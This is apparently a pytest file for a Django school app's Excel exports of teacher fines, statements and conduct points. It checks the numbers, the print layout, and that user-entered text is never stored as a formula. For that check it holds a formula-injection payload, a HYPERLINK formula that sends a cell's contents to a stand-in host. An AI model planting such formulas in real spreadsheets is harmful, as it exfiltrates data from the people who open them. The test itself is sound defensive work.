"""The Excel downloads: the numbers are the page's and the database's, laid out for printing, and user text is
never a formula."""

import io
import zipfile
from decimal import Decimal as D

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from deductions import exports, services
from deductions.models import TeacherLedger
from school.tests.world import add_fines

pytestmark = pytest.mark.django_db

TITLE_ROW, HEADER_ROW, FIRST = exports.TITLE_ROW, exports.HEADER_ROW, exports.FIRST_DATA_ROW
EVIL_NAME = '=HYPERLINK("http://e.x/?"&A1,"看")'  # fits Staff.name (40)


@pytest.fixture
def office(client, login, world):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return login(world.director)


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    return response, load_workbook(io.BytesIO(response.content)).active


def data_rows(sheet, columns):
    """The table's rows below the header, up to the total row (whose second cell says Total)."""
    rows = []
    for row in sheet.iter_rows(min_row=FIRST, max_col=columns, values_only=True):
        if row[1] == "Total":
            return rows, row
        rows.append(row)
    raise AssertionError("no total row")


def assert_printed_layout(sheet, columns: int, title: str):
    last = chr(ord("A") + columns - 1)
    assert f"A{TITLE_ROW}:{last}{TITLE_ROW}" in {str(r) for r in sheet.merged_cells.ranges}
    assert sheet.cell(row=TITLE_ROW, column=1).value == title
    assert all(sheet.cell(row=HEADER_ROW, column=c).font.b for c in range(1, columns + 1))
    assert sheet.freeze_panes == f"A{FIRST}"
    assert sheet.print_title_rows == f"${TITLE_ROW}:${HEADER_ROW}"
    assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
    assert all(sheet.column_dimensions[chr(ord("A") + c)].width > 0 for c in range(columns))


def formulas_in(content: bytes) -> list[str]:
    """Every formula element written in the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


def test_the_month_summary_workbook_holds_the_pages_numbers(world, office):
    fines = add_fines(world)
    page = office.get(reverse("deductions:ledger-month-detail", args=[fines.month.pk])).context
    response, sheet = download(office, reverse("deductions:ledger-month-export", args=[fines.month.pk]))
    assert_printed_layout(sheet, 7, exports.month_title(fines.month))
    rows, total = data_rows(sheet, 7)
    assert [(r[1], r[2], D(str(r[4])), D(str(r[5])), r[6]) for r in rows] == [
        (lg.teacher.staff_no, lg.teacher.name, lg.amount, lg.conduct_points, lg.entry_count)
        for lg in page["ledgers"]
    ]
    ledgers = TeacherLedger.objects.filter(month=fines.month)
    assert D(str(total[4])) == page["total_amount"] == sum(lg.amount for lg in ledgers) == D("27.00")
    assert sheet.cell(row=FIRST, column=5).number_format == "0.00"
    assert [r[0] for r in rows] == [1, 2, 3]


def test_the_statement_workbook_holds_every_entry_and_the_total(world, office, login, client):
    violation = services.violation_record(teacher=world.teacher, code="no_preparation", quantity=2,
                                          occurred_on=world.term.start_date, reason="巡课", user=world.director.user)
    services.violation_confirm(violation=violation, user=world.director.user)
    services.violation_appeal(violation=violation, user=world.teacher.user, reason="已备课")
    services.violation_decide(violation=violation, user=world.director.user, waive=True, reason="属实")
    ledger = TeacherLedger.objects.get(teacher=world.teacher)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    teacher = login(world.teacher)
    page = teacher.get(reverse("deductions:statement", args=[ledger.pk])).context
    response, sheet = download(teacher, reverse("deductions:statement-export", args=[ledger.pk]))
    assert_printed_layout(sheet, 9, exports.statement_title(ledger))
    assert sheet.page_setup.orientation == "landscape"
    rows, total = data_rows(sheet, 9)
    assert [(r[1], r[2], r[3], D(str(r[4])), D(str(r[5]))) for r in rows] == [
        ("Fine", "未备课上课", 2, D("10.00"), D("20.00")),
        ("Reversal of a waived fine", "未备课上课", 2, D("10.00"), D("-20.00")),
    ]
    assert [D(str(r[5])) for r in rows] == [line["amount"] for line in page["lines"]]
    assert D(str(total[5])) == page["total_amount"] == ledger.amount == 0
    assert rows[0][0].date() == violation.occurred_on


def test_the_conduct_points_workbook_holds_the_pages_numbers(world, office):
    add_fines(world)
    page = office.get(reverse("deductions:conduct-points")).context
    response, sheet = download(office, reverse("deductions:conduct-points-export"))
    assert_printed_layout(sheet, 6, exports.conduct_points_title(world.term))
    rows, total = data_rows(sheet, 6)
    assert [(r[1], D(str(r[4])), D(str(r[5]))) for r in rows] == [
        (m.staff_no, m.term_amount, m.term_points) for m in page["rows"]
    ]
    assert D(str(total[4])) == page["total_amount"] == D("27.00")
    assert "FOREIGN" not in {str(r[2]) for r in rows}


def test_user_text_is_never_a_formula(world, office):
    world.teacher.name = EVIL_NAME
    world.teacher.save()
    fines = add_fines(world)
    services.ledger_adjust(teacher=world.teacher, month=fines.month, amount=D("-1.00"), note="=1+2",
                           user=world.director.user)
    evil = {EVIL_NAME, "=1+2"}
    ledger = TeacherLedger.objects.filter(teacher=world.teacher).exclude(month=fines.month).get()
    for url in (reverse("deductions:ledger-month-export", args=[fines.month.pk]),
                reverse("deductions:statement-export", args=[ledger.pk]),
                reverse("deductions:conduct-points-export")):
        response, sheet = download(office, url)
        assert formulas_in(response.content) == []
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value in evil]
        assert cells, url
        for cell in cells:
            assert cell.data_type == "s"
            assert cell.quotePrefix


def test_write_text_keeps_the_text_exactly():
    from openpyxl import Workbook

    sheet = Workbook().active
    for value in ("=SUM(A1:A2)", "+86 138", "-5", "@cmd", "教师己", "a\x07b"):
        exports.write_text(sheet["A1"], value)
        assert sheet["A1"].data_type == "s"
        assert sheet["A1"].value == value.replace("\x07", "")
